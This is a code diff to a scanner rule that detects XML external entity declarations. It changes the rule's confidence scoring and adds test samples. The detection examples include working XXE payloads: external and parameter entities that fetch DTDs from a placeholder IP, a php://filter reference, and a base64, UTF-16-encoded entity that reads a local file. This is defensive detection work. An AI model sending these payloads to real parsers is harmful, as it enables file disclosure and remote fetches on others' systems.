@@ -1,4 +1,5 @@
 import { xmlGrammar } from '../../tokenise/xml.ts';
+import { confidence } from '../confidence.ts';
 import type { Match, ValueRule } from '../rule.ts';
 import { referenceKindOf } from './reference.ts';
 
@@ -8,7 +9,7 @@ export const externalEntity: ValueRule = {
   category: 'xxe',
   cwe: 'CWE-611',
   severity: 'critical',
-  score: 95,
+  score: confidence.certain,
   message: 'declares an entity whose content the XML parser fetches from a file or another host',
   trigger: { literals: [['<!entity']] },
   judge: (subject) => {
@@ -19,7 +20,14 @@ export const externalEntity: ValueRule = {
       if (one.kind !== 'entity' || one.external === undefined) continue;
       const kind = referenceKindOf(one.literal);
       // Old document types include the character entities of the W3C in this way.
-      const score = kind === 'known' ? 55 : kind === 'relative' ? 76 : kind === 'none' ? 60 : 95;
+      const score =
+        kind === 'known'
+          ? confidence.hint
+          : kind === 'relative'
+            ? confidence.likely
+            : kind === 'none'
+              ? confidence.hint
+              : confidence.certain;
       if (score > (best?.score ?? 0)) best = { start: one.start, end: one.end, score };
     }
     return best;
@@ -29,8 +37,10 @@ export const externalEntity: ValueRule = {
     "<!ENTITY % d SYSTEM 'http://203.0.113.5/d.dtd'> %d;",
     '<!DOCTYPE a [<!ENTITY b PUBLIC "any" "php://filter/resource=x">]>',
     '<![CDATA[<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.5:22/"> %p;]>]]>',
+    '//48ACEARABPAEMAVABZAFAARQAgAHIAIABbADwAIQBFAE4AVABJAFQAWQAgAHgAIABTAFkAUwBUAEUATQAgACIAZgBpAGwAZQA6AC8ALwAvAHMAcgB2AC8AYQAiAD4AXQA+ADwAcgA+ACYAeAA7ADwALwByAD4A',
   ],
   lookalikes: [
+    '//48AHIAPgB0AGUAYQA8AC8AcgA+AA==',
     'An <!ENTITY x SYSTEM declaration refers to another resource.',
     '<!DOCTYPE html><html lang="en"><body>&nbsp;</body></html>',
     '<!ENTITY copy "&#169;">',
